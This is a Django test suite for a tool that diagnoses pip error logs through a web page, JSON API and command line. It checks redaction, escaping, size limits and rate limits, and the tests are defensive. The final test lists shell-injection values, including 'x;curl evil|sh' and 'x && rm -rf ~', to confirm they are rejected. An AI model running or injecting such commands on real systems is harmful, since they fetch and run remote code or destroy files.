"""The diagnosis as people reach it: the page, the JSON API and the command line."""

import io
import json
import logging
import sys
import tempfile
import time
from unittest.mock import patch

from django.core.cache import caches
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import connection
from django.db.models import F
from django.test import Client, SimpleTestCase, TestCase, override_settings
from django.test.utils import CaptureQueriesContext

from kb import signature_version
from kb.diagnosing import REMEMBERED_LOG_BYTES, diagnose_log, fill
from kb.diagnosis import Matcher
from kb.models import Entry, Signature, SourceReference
from kb.staff.models import RootCauseCount
from tests.helpers import make_entry, make_reference, make_signature

HASH_LOG = """\
Collecting sympy==1.12 (from -r requirements.txt (line 3))
  Downloading https://www.piwheels.org/simple/sympy/sympy-1.12-py3-none-any.whl (5.7 MB)
ERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE. If you have updated the package versions, please update the hashes. Otherwise, examine the package contents carefully; someone may have tampered with them.
    sympy==1.12 from https://www.piwheels.org/simple/sympy/sympy-1.12-py3-none-any.whl (from -r requirements.txt (line 3)):
        Expected sha256 1620aeb2b1e9a6b8a8ec0fd8bbd3cbdc1d0f1e2a84d1e5d2c3b4a59687766554
             Got        924b2a1e6f3c9d8e7b6a5f4e3d2c1b0a99887766554433221100ffeeddccbbaa
"""
# Rate-limit counts are kept per window of time: a window of a day keeps a slow run (under a
# mutation tool, on a busy machine) from crossing into the next minute between two requests.
ONE_WINDOW = 24 * 60 * 60
SECRET_LOG = HASH_LOG.replace(
    "Collecting sympy", "Looking in indexes: https://alice:s3cretPassw0rd@pypi.example.com/simple\nCollecting sympy"
)


class DiagnosisFixture(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.entry = make_entry("HASH_MISMATCH", quick_fix="pip download {package}=={version} --no-deps -d ./check")
        make_signature(cls.entry, "THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE")
        make_signature(
            cls.entry,
            r"Expected sha256 (?P<expected_hash>[0-9a-f]{64})",
            is_regex=True,
        )
        make_reference(cls.entry, "24.0", "HashMismatch", 290, 330)
        make_reference(cls.entry, "26.2.1", "HashMismatch", 612, 650)
        cls.entry.symbols = "HashMismatch"
        cls.entry.save()


class DiagnosePageTests(DiagnosisFixture):
    def test_the_empty_page_offers_a_text_area_and_an_upload(self):
        response = self.client.get("/diagnose/")
        self.assertContains(response, '<textarea name="log"')
        self.assertContains(response, 'type="file" name="upload"')
        self.assertContains(response, 'enctype="multipart/form-data"')

    def test_a_pasted_log_shows_the_root_cause_card_and_the_highlighted_line(self):
        response = self.client.post("/diagnose/", {"log": HASH_LOG})
        self.assertContains(response, "<strong>Root cause:</strong>")
        self.assertContains(response, 'id="match-1"')
        self.assertContains(response, '<div id="L3" class="log-line matched">')
        self.assertContains(response, '<div id="L1" class="log-line">')
        self.assertContains(response, 'href="/pip/hash-mismatch/#how-to-fix-it"')

    def test_the_fix_is_filled_in_with_the_package_from_the_log(self):
        response = self.client.post("/diagnose/", {"log": HASH_LOG})
        self.assertContains(response, "<code>pip download sympy==1.12 --no-deps -d ./check</code>")

    def test_an_uploaded_file_is_diagnosed_like_a_paste(self):
        upload = SimpleUploadedFile("build.log", HASH_LOG.encode(), content_type="text/plain")
        response = self.client.post("/diagnose/", {"upload": upload})
        self.assertContains(response, "<strong>Root cause:</strong>")

    def test_nothing_matched_is_said_plainly_and_the_text_is_kept(self):
        log = "ERROR: something nobody has ever seen\nmore output\n"
        response = self.client.post("/diagnose/", {"log": log})
        self.assertContains(response, "No known pip error found in this log.")
        self.assertContains(
            response, 'aria-describedby="log-help">ERROR: something nobody has ever seen\nmore output\n</textarea>'
        )

    def test_a_success_says_so_without_asking_to_edit_or_share_the_log(self):
        response = self.client.post("/diagnose/", {"log": "Collecting six\nSuccessfully installed six-1.16.0\n"})
        self.assertContains(response, "<strong>pip succeeded.</strong>")
        self.assertNotContains(response, "try again")
        self.assertNotContains(response, 'id="share-heading"')

    def test_another_tools_log_is_named_not_called_unknown(self):
        response = self.client.post("/diagnose/", {"log": "$ uv pip install x\nerror: Failed to build `x`\n"})
        self.assertContains(response, "<strong>This is uv's output, not pip's.</strong>")
        self.assertNotContains(response, "No known pip error")

    @override_settings(KB_ECHO_LOG_BYTES=2000)
    def test_a_large_log_is_not_sent_back_whole_and_the_page_says_so(self):
        noise = "".join(f"Collecting package-{number}==1.0\n" for number in range(200))
        response = self.client.post("/diagnose/", {"log": noise + HASH_LOG + noise})
        html = response.content.decode()
        self.assertIn("is not sent back to you whole", html)
        self.assertNotIn("Collecting package-100==1.0", html)
        self.assertIn('<div id="L203" class="log-line matched">', html)
        self.assertIn("… 190 lines without a match (not sent back: the log is too large) …", html)

    def test_the_lines_without_a_match_of_a_smaller_log_unfold_without_javascript(self):
        noise = "".join(f"Collecting package-{number}==1.0\n" for number in range(200))
        html = self.client.post("/diagnose/", {"log": noise + HASH_LOG + noise}).content.decode()
        folded = html.split(
            '<details class="hidden-lines"><summary>… 190 lines without a match (show them) …</summary>'
        )
        self.assertEqual(len(folded), 2)
        self.assertIn('<div id="L101" class="log-line"><a class="line-number" href="#L101"', folded[1])
        self.assertIn("Collecting package-100==1.0", folded[1].split("</details>")[0])

    def test_a_file_and_a_paste_together_the_page_says_which_was_read_and_keeps_the_other(self):
        upload = SimpleUploadedFile("build.log", HASH_LOG.encode(), content_type="text/plain")
        pasted = "my other log\nLooking in indexes: https://deploy:s3cretPassw0rd@pypi.internal/simple\n"
        response = self.client.post("/diagnose/", {"upload": upload, "log": pasted})
        self.assertContains(response, "<strong>Root cause:</strong>")
        self.assertContains(response, "this is the diagnosis of the file, <code>build.log</code>")
        self.assertContains(
            response, ">my other log\nLooking in indexes: https://[redacted]@pypi.internal/simple\n</textarea>"
        )
        self.assertNotContains(response, "s3cretPassw0rd")

    def test_an_example_log_fills_the_form_for_people_without_one(self):
        self.assertContains(self.client.get("/diagnose/"), 'href="/diagnose/?example#id_log"')
        response = self.client.get("/diagnose/?example")
        self.assertContains(response, "Error: pg_config executable not found.")
        self.assertContains(response, "The form holds an example")

    def test_the_form_posts_to_the_result_so_the_browser_moves_there(self):
        self.assertContains(self.client.get("/diagnose/"), 'action="/diagnose/#summary-heading"')

    @override_settings(KB_ECHO_LOG_BYTES=1000)
    def test_a_very_long_line_is_shown_in_part(self):
        response = self.client.post("/diagnose/", {"log": HASH_LOG + "x" * 5000 + "\n"})
        self.assertContains(response, "x" * 2000 + '<span class="cut"> … 3000 more characters</span>')
        self.assertNotContains(response, "x" * 2001)

    def test_an_empty_paste_gets_a_clear_message(self):
        response = self.client.post("/diagnose/", {"log": "   \n"})
        self.assertEqual(response.status_code, 400)
        self.assertContains(response, 'role="alert"', status_code=400)

    @override_settings(KB_MAX_LOG_BYTES=1000)
    def test_a_log_over_the_limit_gets_a_clear_message_and_is_not_sent_back_unredacted(self):
        response = self.client.post("/diagnose/", {"log": "ERROR: token=hunter2secret " + "x" * 5000})
        self.assertContains(response, "larger than", status_code=413)
        self.assertNotContains(response, "hunter2secret", status_code=413)

    @override_settings(KB_MAX_LOG_BYTES=1000)
    def test_an_upload_over_the_limit_gets_a_clear_message(self):
        upload = SimpleUploadedFile("big.log", b"x" * 5000)
        response = self.client.post("/diagnose/", {"upload": upload})
        self.assertEqual(response.status_code, 413)
        self.assertContains(response, "the limit is 1,000 bytes", status_code=413)

    @override_settings(KB_MAX_LOG_BYTES=1000)
    def test_an_upload_over_the_limit_beside_a_paste_says_why_and_leaves_the_paste_to_the_browser(self):
        upload = SimpleUploadedFile("big.log", b"x" * 5000)
        response = self.client.post("/diagnose/", {"upload": upload, "log": "ERROR: token=hunter2secret\n"})
        self.assertContains(response, "the limit is 1,000 bytes", status_code=413)
        self.assertContains(response, 'role="alert"', status_code=413)
        self.assertNotContains(response, "hunter2secret", status_code=413)
        self.assertContains(response, "data-restore-log></textarea>", status_code=413)

    def test_a_secret_in_the_log_never_reaches_the_page(self):
        response = self.client.post("/diagnose/", {"log": SECRET_LOG})
        self.assertNotContains(response, "s3cretPassw0rd")
        self.assertContains(response, "1 secret removed")

    def test_the_pasted_log_is_escaped(self):
        response = self.client.post("/diagnose/", {"log": HASH_LOG + "<script>alert(1)</script>\n"})
        self.assertNotContains(response, "<script>alert(1)</script>")
        self.assertContains(response, "&lt;script&gt;alert(1)&lt;/script&gt;")

    def test_the_page_needs_the_csrf_token(self):
        response = Client(enforce_csrf_checks=True).post("/diagnose/", {"log": HASH_LOG})
        self.assertEqual(response.status_code, 403)


class DiagnoseApiTests(DiagnosisFixture):
    def post(self, body, content_type="text/plain", **extra):
        return self.client.post("/api/diagnose", body, content_type=content_type, **extra)

    def test_a_raw_text_body_gets_the_contract_shape(self):
        data = self.post(HASH_LOG).json()
        self.assertEqual(
            set(data), {"outcome", "tool", "pip_version", "python_version", "redacted", "partial", "matches"}
        )
        self.assertEqual((data["outcome"], data["tool"], data["partial"]), ("failed", "pip", None))
        match = data["matches"][0]
        self.assertEqual(
            set(match), {"code", "tool", "severity", "title", "url", "lines", "excerpt", "facts", "source"}
        )
        self.assertEqual((match["code"], match["tool"], match["severity"]), ("HASH_MISMATCH", "pip", "error"))
        self.assertEqual(match["url"], "http://testserver/pip/hash-mismatch/")
        self.assertEqual(match["lines"][0], 3)
        self.assertEqual(match["facts"]["expected_hash"][:4], "1620")

    def test_a_json_body_is_read_from_its_log_key(self):
        data = self.post(json.dumps({"log": HASH_LOG}), content_type="application/json").json()
        self.assertEqual(data["matches"][0]["code"], "HASH_MISMATCH")

    def test_the_source_is_the_release_nearest_the_logs_pip(self):
        log = "pip 24.0 from /usr/lib/python3/dist-packages/pip (python 3.12)\n" + HASH_LOG
        data = self.post(log).json()
        self.assertEqual(data["pip_version"], "24.0")
        self.assertEqual(data["python_version"], "3.12")
        source = data["matches"][0]["source"]
        self.assertEqual(source["version"], "24.0")
        self.assertEqual(
            source["url"], "https://github.com/pypa/pip/blob/24.0/src/pip/_internal/exceptions.py#L290-L330"
        )

    def test_an_old_pip_dated_by_its_traceback_links_the_source_in_that_range(self):
        make_reference(self.entry, "9.0.3", "HashMismatch", 10, 20)
        log = '  File "/usr/lib/python2.7/dist-packages/pip/basecommand.py", line 215, in main\n' + HASH_LOG
        data = self.post(log).json()
        self.assertIsNone(data["pip_version"])
        self.assertEqual(data["matches"][0]["source"]["version"], "9.0.3")

    def test_another_tools_output_is_named(self):
        data = self.post("$ poetry install\nInstalling dependencies from lock file\nsomething broke\n").json()
        self.assertEqual((data["outcome"], data["tool"], data["matches"]), ("other-tool", "poetry", []))

    def test_without_a_pip_version_the_newest_synced_release_is_linked(self):
        data = self.post(HASH_LOG).json()
        self.assertIsNone(data["pip_version"])
        self.assertEqual(data["matches"][0]["source"]["version"], "26.2.1")

    def test_secrets_are_counted_and_gone(self):
        response = self.post(SECRET_LOG)
        self.assertNotIn(b"s3cretPassw0rd", response.content)
        self.assertEqual(response.json()["redacted"], 1)

    def test_no_secret_reaches_the_apps_logs(self):
        records = []
        handler = logging.Handler(level=logging.DEBUG)
        handler.emit = lambda record: records.append(record.getMessage())
        root = logging.getLogger()
        root.addHandler(handler)
        previous_level = root.level
        root.setLevel(logging.DEBUG)
        try:
            self.post(SECRET_LOG)
            self.client.post("/diagnose/", {"log": SECRET_LOG})
            self.post(SECRET_LOG.encode() + b"\x00" * 5000)
        finally:
            root.removeHandler(handler)
            root.setLevel(previous_level)
        self.assertFalse([record for record in records if "s3cretPassw0rd" in record])

    def test_bad_input_is_a_4xx_with_a_sentence(self):
        cases = [
            ("", "text/plain", 400),
            ("{not json", "application/json", 400),
            (json.dumps({"text": "x"}), "application/json", 400),
            (json.dumps({"log": 5}), "application/json", 400),
            (b"\x00\x01\x02\x03" * 1000, "application/octet-stream", 400),
        ]
        for body, content_type, status in cases:
            with self.subTest(body=body[:20]):
                response = self.post(body, content_type=content_type)
                self.assertEqual(response.status_code, status)
                self.assertGreater(len(response.json()["error"]), 20)

    def test_invalid_utf8_is_decoded_with_replacement_not_refused(self):
        body = HASH_LOG.encode() + b"\xff\xfe broken bytes \xc3\x28\n"
        response = self.post(body)
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response.json()["matches"][0]["code"], "HASH_MISMATCH")

    @override_settings(KB_MAX_LOG_BYTES=1000)
    def test_a_body_over_the_limit_is_413(self):
        response = self.post("x" * 5000)
        self.assertEqual(response.status_code, 413)
        self.assertIn("error", response.json())

    @override_settings(KB_MAX_LOG_BYTES=1000, DATA_UPLOAD_MAX_MEMORY_SIZE=2000)
    def test_a_body_django_itself_refuses_to_read_is_413_too(self):
        self.assertEqual(self.post("x" * 5000).status_code, 413)
        page = self.client.post("/diagnose/", {"log": "x" * 5000})
        self.assertContains(page, "larger than the 1,000 bytes we accept", status_code=413)

    @override_settings(KB_RATE_LIMIT=2, KB_RATE_WINDOW_SECONDS=ONE_WINDOW)
    def test_too_many_requests_from_one_client_are_429(self):
        statuses = [self.post(HASH_LOG).status_code for _ in range(3)]
        self.assertEqual(statuses, [200, 200, 429])
        self.assertIn("Too many", self.post(HASH_LOG).json()["error"])
        other_client = self.post(HASH_LOG, REMOTE_ADDR="10.9.9.9")
        self.assertEqual(other_client.status_code, 200)

    @override_settings(KB_RATE_LIMIT=1, KB_RATE_WINDOW_SECONDS=ONE_WINDOW)
    def test_the_page_is_rate_limited_too(self):
        first = self.client.post("/diagnose/", {"log": HASH_LOG})
        response = self.client.post("/diagnose/", {"log": HASH_LOG})
        self.assertEqual((first.status_code, response.status_code), (200, 429))
        self.assertContains(response, "Too many diagnoses", status_code=429)

    @override_settings(KB_RATE_LIMIT=1, KB_RATE_WINDOW_SECONDS=ONE_WINDOW)
    def test_a_forwarded_header_nobody_trusts_does_not_get_round_the_limit(self):
        statuses = [self.post(HASH_LOG, HTTP_X_FORWARDED_FOR=f"203.0.113.{n}").status_code for n in (1, 2)]
        self.assertEqual(statuses, [200, 429])

    @override_settings(KB_RATE_LIMIT=1, KB_RATE_WINDOW_SECONDS=ONE_WINDOW, KB_TRUSTED_PROXIES=1)
    def test_behind_a_trusted_proxy_each_forwarded_client_has_its_own_limit(self):
        statuses = [self.post(HASH_LOG, HTTP_X_FORWARDED_FOR=f"203.0.113.{n}").status_code for n in (1, 2)]
        self.assertEqual(statuses, [200, 200])

    def test_only_post_is_allowed(self):
        self.assertEqual(self.client.get("/api/diagnose").status_code, 405)

    def test_a_signature_change_is_used_by_the_next_diagnosis(self):
        self.assertEqual(self.post("ERROR: brand new failure text\n").json()["matches"], [])
        make_signature(self.entry, "brand new failure text")
        self.assertEqual(self.post("ERROR: brand new failure text\n").json()["matches"][0]["code"], "HASH_MISMATCH")

    def test_a_signature_saved_by_another_server_process_is_used_here_too(self):
        self.assertEqual(self.post("ERROR: learned elsewhere\n").json()["matches"], [])
        # Another process writes the row (no signal reaches this one) and bumps the shared token.
        Signature.objects.bulk_create([Signature(entry=self.entry, pattern="learned elsewhere")])
        self.assertEqual(self.post("ERROR: learned elsewhere\n").json()["matches"], [])
        caches["signals"].set(signature_version.SIGNATURE_VERSION_KEY, "set-by-another-process")
        self.assertEqual(self.post("ERROR: learned elsewhere\n").json()["matches"][0]["code"], "HASH_MISMATCH")

    def test_an_entry_edited_here_is_what_the_next_diagnosis_shows(self):
        self.post(HASH_LOG)
        self.entry.title = "Downloaded files that do not match their hashes"
        self.entry.save()
        self.assertEqual(self.post(HASH_LOG).json()["matches"][0]["title"], self.entry.title)

    def test_repeated_diagnoses_read_the_entries_and_their_sources_once(self):
        diagnose_log(HASH_LOG)
        with CaptureQueriesContext(connection) as queries:
            report = diagnose_log(HASH_LOG)
        read = " ".join(query["sql"] for query in queries.captured_queries)
        self.assertNotIn(Entry._meta.db_table, read)
        self.assertNotIn(SourceReference._meta.db_table, read)
        self.assertEqual(
            (report.root_cause.entry.code, report.root_cause.source.pip_version), ("HASH_MISMATCH", "26.2.1")
        )

    def test_the_same_log_sent_again_is_answered_without_scanning_it_again_and_still_counted(self):
        with patch.object(Matcher, "diagnose", autospec=True, side_effect=Matcher.diagnose) as scans:
            answers = [self.post(HASH_LOG).json() for _ in range(3)]
            self.post(HASH_LOG + "\n# run 2\n")
        self.assertEqual(scans.call_count, 2)
        self.assertEqual(answers[0], answers[2])
        self.assertEqual(RootCauseCount.objects.get(code="HASH_MISMATCH").count, 4)

    def test_a_log_too_large_to_keep_is_scanned_each_time(self):
        large = HASH_LOG + "Collecting a-package-name-for-size\n" * (REMEMBERED_LOG_BYTES // 30)
        with patch.object(Matcher, "diagnose", autospec=True, side_effect=Matcher.diagnose) as scans:
            codes = [self.post(large).json()["matches"][0]["code"] for _ in range(2)]
        self.assertEqual((codes, scans.call_count), (["HASH_MISMATCH"] * 2, 2))

    @override_settings(KB_PAGE_CACHE_SECONDS=1)
    def test_a_source_changed_by_another_process_is_linked_within_the_page_cache_delay(self):
        self.post(HASH_LOG)
        # Another process's write: no signal reaches this one.
        SourceReference.objects.filter(entry=self.entry).update(start_line=F("start_line") + 1)
        time.sleep(1)
        self.assertEqual(self.post(HASH_LOG).json()["matches"][0]["source"]["start_line"], 613)

    def test_a_draft_entrys_signatures_are_not_used(self):
        draft = make_entry("DRAFT_ONLY", status="draft")
        make_signature(draft, "only the draft knows this")
        self.assertEqual(self.post("only the draft knows this\n").json()["matches"], [])


class DiagnoseCommandTests(DiagnosisFixture):
    def run_command(self, *args, stdin: bytes = b"") -> str:
        out = io.StringIO()
        saved = sys.stdin
        sys.stdin = io.TextIOWrapper(io.BytesIO(stdin))
        try:
            call_command("diagnose", *args, stdout=out)
        finally:
            sys.stdin = saved
        return out.getvalue()

    def test_json_output_is_exactly_the_apis(self):
        api = self.client.post("/api/diagnose", HASH_LOG, content_type="text/plain").json()
        cli = json.loads(self.run_command("-", "--json", stdin=HASH_LOG.encode()))
        self.assertEqual(cli["matches"][0]["url"], "http://127.0.0.1:8000/pip/hash-mismatch/")
        for data in (api, cli):
            for match in data["matches"]:
                match.pop("url")
        self.assertEqual(api, cli)

    def test_the_summary_for_a_person_names_the_root_cause_and_the_fix(self):
        text = self.run_command("-", stdin=HASH_LOG.encode())
        self.assertIn("Root cause: HASH_MISMATCH", text)
        self.assertIn("lines 3-", text)

    def test_a_file_argument_is_read(self):
        with tempfile.NamedTemporaryFile("wb", suffix=".log") as handle:
            handle.write(HASH_LOG.encode())
            handle.flush()
            self.assertIn("HASH_MISMATCH", self.run_command(handle.name))

    def test_a_missing_file_is_a_clear_error(self):
        with self.assertRaisesMessage(CommandError, "Cannot read /no/such/file.log"):
            self.run_command("/no/such/file.log")

    def test_an_empty_or_binary_input_is_refused_with_the_pages_sentence(self):
        refusals = {
            b"\n \n": "The log is empty: paste the output of the pip command that failed.",
            b"\x7fELF\x02\x01\x01" + b"\x00" * 200: "This looks like a binary file, not a text log",
        }
        for data, sentence in refusals.items():
            with self.subTest(sentence=sentence), self.assertRaisesMessage(CommandError, sentence):
                self.run_command("-", stdin=data)


class QuickFixTests(SimpleTestCase):
    def test_facts_from_the_log_fill_the_command(self):
        filled = fill("pip index versions {package}", {"package": "sympy", "version": "1.12"})
        self.assertEqual(filled, "pip index versions sympy")

    def test_no_command_is_offered_when_a_fact_is_missing(self):
        self.assertEqual(fill("pip download {package}=={version}", {"package": "sympy"}), "")

    def test_no_command_is_offered_when_a_fact_holds_shell_syntax(self):
        for hostile in ("x;curl evil|sh", "x && rm -rf ~", "$(id)", "`id`", "a b", "x'y", 'x"y'):
            with self.subTest(package=hostile):
                self.assertEqual(fill("pip install {package}", {"package": hostile}), "")
